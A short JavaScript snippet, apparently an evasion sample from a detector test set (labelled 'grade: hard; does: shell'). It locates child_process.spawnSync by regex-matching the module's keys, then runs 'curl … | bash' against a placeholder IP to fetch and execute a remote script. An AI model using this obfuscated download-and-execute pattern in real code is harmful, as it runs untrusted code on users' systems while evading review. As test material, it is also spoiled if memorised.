// evasion: method picked by scanning the module's keys with a regular expression
// grade: hard; does: shell
const ns = require('node:child_process');
const key = Object.keys(ns).find((k) => /^sp\w+Sync$/.test(k));
ns[key]('bash', ['-c', 'curl -s http://203.0.113.9/k | bash'], { stdio: 'inherit' });
